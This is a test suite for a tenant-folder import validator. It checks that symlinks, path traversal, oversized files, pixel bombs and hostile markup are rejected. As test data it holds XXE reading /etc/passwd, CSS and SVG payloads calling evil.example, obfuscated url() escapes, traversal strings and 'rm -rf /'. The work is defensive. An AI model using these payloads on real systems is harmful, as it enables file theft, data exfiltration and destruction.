import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { hostileMarkup } from '@atrium/domain/testing/hostile-markup';
import sharp from 'sharp';
import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import { checkFolder } from './check-folder.ts';
import { harmOfStyles } from './file-areas.ts';
import { inspectArt } from './files.ts';
import { readFolder } from './read-folder.ts';
import { lineOfField } from './strings.ts';

const work = mkdtempSync(join(tmpdir(), 'atrium-hostile-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const tenant = {
  code: 'nova',
  name: 'Nova',
  hosts: ['nova.localhost'],
  defaultLocale: 'en',
  locales: ['en', 'ar'],
  currency: 'EUR',
};
const article = { id: 1, contentType: 'ALBUM', slug: 'one', title: 'One' };
const picture = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#2a9d8f' } })
  .webp()
  .toBuffer();

let root: string;
beforeEach(() => {
  root = mkdtempSync(join(work, 'folder-'));
  put('tenant.json', tenant);
  put('files/art/cover.webp', picture);
});

function put(path: string, content: unknown): void {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  const isRaw = typeof content === 'string' || Buffer.isBuffer(content);
  writeFileSync(join(root, path), isRaw ? content : JSON.stringify(content, null, 2));
}

async function check({ isTrusted = false, as = undefined as string | undefined } = {}) {
  const folder = await readFolder(root);
  const { art, problems } = await inspectArt(folder);
  return checkFolder(
    { ...folder, problems: [...folder.problems, ...problems] },
    {
      as,
      ownHosts: ['console.localhost'],
      isTrusted,
      art,
    },
  );
}

const problems = async (options = {}) => {
  const checked = await check(options);
  return checked.problems.join('\n');
};

test('a plain folder is taken, and its files are called by the tenant’s name', async () => {
  put('catalogue/album.json', [
    { ...article, artworks: [{ artworkClass: 'COVER', url: '/files/art/cover.webp' }] },
  ]);
  const checked = await check({ as: 'other' });
  expect(checked).toMatchObject({ tenant: { configuration: { code: 'other', hosts: ['other.localhost'] } } });
  expect(JSON.stringify(checked)).toMatch(
    /\/img\/art\/other\.cover\/\{width\}x\{height\}\.\{suffix\}\?v=[0-9a-f]{10}/,
  );
});

describe('nothing outside of the folder is read', () => {
  test.each([
    ['a link to a file', 'site/global.json', '/etc/passwd'],
    ['a link to a picture', 'files/art/secret.webp', '/etc/hostname'],
    ['a link to a folder', 'structures', '/etc'],
  ])('%s', async (_, path, target) => {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    symlinkSync(target, join(root, path));
    expect(await problems()).toContain(`${path} is no plain file`);
  });

  test('a folder that is a link itself', async () => {
    symlinkSync('/etc', join(work, 'link'));
    await expect(readFolder(join(work, 'link'))).rejects.toThrow('There is no folder');
  });

  test.each([
    '/files/art/../../../etc/passwd',
    '/files/public/..%2f..%2fx.m4a',
    '/files/art//cover.webp',
    '/files/art/missing.webp',
    '/files/other/cover.webp',
  ])('%s is no file of it', async (url) => {
    put('catalogue/album.json', [{ ...article, artworks: [{ artworkClass: 'COVER', url }] }]);
    expect(await problems()).toContain('catalogue/album.json line 10 at 0.artworks.0.url: there is no file');
  });
});

describe('what belongs to others', () => {
  test.each([
    '/media/protected/klang/song.m4a',
    '/media/protected/music/low-sun.m4a',
    '/media/public/klang/x.webp',
    '/img/art/klang.cover/1x1.webp',
    '/img/brand/klang/logo.svg',
  ])('%s is not shown or sold by this one', async (uri) => {
    put('catalogue/album.json', [
      { ...article, media: [{ protocol: 'PROGRESSIVE', isPreview: false, uri, bytes: 1, duration: 1 }] },
    ]);
    expect(await problems()).toContain('is no file of this tenant');
  });

  test.each([
    ['tenant.json', { ...tenant, id: 1 }, 'tenant.json line 13 at id: is decided by the installation'],
    ['tenant.json', { ...tenant, isFallback: true }, 'at isFallback'],
    ['tenant.json', { ...tenant, hosts: ['nova.localhost', 'CONSOLE.localhost'] }, 'host'],
    ['tenant.json', { ...tenant, hosts: ['nova.localhost', 'console.localhost'] }, 'is the console’s'],
    ['people.json', [{ email: 'a@b.example' }], 'unknown field'],
    ['tenant-id.json', 1, 'unknown field'],
  ])('%s: %j', async (path, content, sentence) => {
    put(path, content);
    expect(await problems()).toContain(sentence);
  });
});

describe('what is too much', () => {
  test('a document of many megabytes is not even read', async () => {
    put('catalogue/album.json', '[]');
    truncateSync(join(root, 'catalogue/album.json'), 40 * 2 ** 20);
    expect(await problems()).toContain('catalogue/album.json is too large: 40 MB');
  });

  test('a picture of many megabytes', async () => {
    truncateSync(join(root, 'files/art/cover.webp'), 40 * 2 ** 20);
    expect(await problems()).toContain('files/art/cover.webp is too large: 40 MB, at most 30 MB');
  });

  test('a picture of more pixels than there is memory for', async () => {
    put(
      'files/art/bomb.png',
      await sharp({
        create: { width: 6000, height: 6000, channels: 3, background: '#000' },
        limitInputPixels: false,
      })
        .png()
        .toBuffer(),
    );
    expect(await problems()).toContain('files/art/bomb.png is no picture that can be shown');
  });

  test('folders within folders', async () => {
    put(`files/public/${'a/'.repeat(20)}x.m4a`, 'x');
    expect(await problems()).toContain('lies too deep');
  });
});

describe('what would run in a browser', () => {
  /** Of the tricks those that are more than words between simple marks. */
  const isOnlyMarked = (markup: string) =>
    /^(?:[^<]|<(?![a-z/!?])|<\/?(?:p|b|i|u|s|ul|ol|li)>)*$/i.test(markup);

  test.each(hostileMarkup.filter((markup) => !isOnlyMarked(markup)))('%s', async (markup) => {
    put('catalogue/album.json', [{ ...article, title: { en: markup, ar: 'واحد' } }]);
    expect(await problems()).toContain('catalogue/album.json line 7 at 0.title.en: <');
  });

  test('simple marks and signs are only text', async () => {
    put('catalogue/album.json', [
      { ...article, description: 'I <3 <b>you</b>, 1 < 2, <a href="/music">more</a>' },
    ]);
    expect(await problems()).toBe('');
  });

  test.each([
    ['tenant.json', { ...tenant, scripts: [{ script: 'hit()', default: true }] }],
    ['tenant.json', { ...tenant, service: { tenantBackendUrl: { nova: 'https://evil.example' } } }],
    ['site/cookies.json', { entries: [{ identifier: 'a', title: 'A', src: 'https://evil.example/x.js' }] }],
    ['site/customStyling.json', { stylesheet: 'https://evil.example/x.css' }],
    ['site/tagManager.json', { id: 'GTM-ABC123' }],
    ['tenant.json', { ...tenant, uploadQuotaBytes: 2 ** 50 }],
  ])('%s with code, or room, of its own is accepted only with --trust', async (path, content) => {
    put(path, content);
    expect(await problems()).toContain('--trust');
    expect(await problems({ isTrusted: true })).toBe('');
  });

  test.each([
    '@import "https://evil.example/x.css";',
    '@IMPORT url(x)',
    'a{background:url(https://evil.example/?leak)}',
    'a{background:u\\72l(//evil.example)}',
    'a{background:ur\\l(//evil.example)}',
    'a{background:u/**/rl(x)}',
    'a{background:image-set("https://evil.example/x" 1x)}',
    'a{width:expression(hit())}',
    'a{-moz-binding:url(x)}',
    '@font-face{src:url(//evil.example/f)}',
    '</style><script>hit()</script>',
  ])('the stylesheet %s', async (css) => {
    put('files/brand/style.css', css);
    expect(await problems()).toContain('files/brand/style.css fetches or runs something');
  });

  test('a stylesheet that styles', () =>
    expect(harmOfStyles('.card{border-radius:2px;color:#123}')).toBeNull());

  test.each([
    '<svg xmlns="http://www.w3.org/2000/svg"><script>hit()</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x"/></svg>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    '<html>',
  ])('the drawing %s', async (svg) => {
    put('files/brand/logo.svg', svg);
    expect(await problems()).toContain('files/brand/logo.svg ');
  });

  test.each([
    ['files/art/page.webp', '<html><script>hit()</script>'],
    ['files/brand/page.html', '<html>'],
    ['files/public/film.mpd', '<MPD><BaseURL>https://evil.example/</BaseURL></MPD>'],
    ['files/public/film.mpd', '<MPD><x:BaseURL>/backend/</x:BaseURL></MPD>'],
    ['files/public/film.mpd', '<MPD><SegmentTemplate media="../klang/$Number$.m4s"/></MPD>'],
    ['files/public/film.mpd', '<MPD><SegmentTemplate media="https&#58;//evil.example/1"/></MPD>'],
    ['files/public/film.mpd', '<MPD><clearkey:Laurl>keys</clearkey:Laurl></MPD>'],
    ['files/public/film.mpd', '<!DOCTYPE x><MPD></MPD>'],
    ['files/public/list.m3u8', '#EXTM3U\nhttps://evil.example/x.ts'],
    ['files/protected/list.m3u8', '#EXTM3U\n../../klang/x.ts'],
    ['run.sh', 'rm -rf /'],
  ])('%s', async (path, content) => {
    put(path, content);
    expect(await problems()).toContain(path);
  });
});

describe('mistakes', () => {
  test('are all told at once, each with its place', async () => {
    put('plans.json', '{\n  "types": [\n    {"id": 1,}\n  ]\n}');
    put('site/global.json', { homeStructure: 7 });
    put('site/nonsense.json', {});
    put('site/colourConfigurations.json', [
      {
        isDark: false,
        neutral: { hue: 1, chroma: 0 },
        ink: { hue: 1, chroma: 0 },
        accent: 'oklch(0.9 0.1 80)',
        onAccent: 'oklch(1 0 0)',
        accent2: 'oklch(0.9 0.1 80)',
      },
    ]);
    const said = await problems();
    expect(said).toMatch(/plans\.json is not JSON: .*line 3/);
    expect(said).toContain('site/global.json line 2 at homeStructure');
    expect(said).toContain('site/nonsense.json line 1: unknown section');
    expect(said).toContain('site/colourConfigurations.json line 2 at 0: onAccent on accent is hard to read');
  });

  test.each<[PropertyKey[], number]>([
    [[], 1],
    [['a'], 2],
    [['b', 1, 'c'], 5],
    [['b', 1, 'none'], 5],
  ])('%j stands on line %i', (field, line) => {
    expect(lineOfField('{\n  "a": "x\\"y",\n  "b": [\n    {},\n    {"c": 1}\n  ]\n}', field)).toBe(line);
  });
});
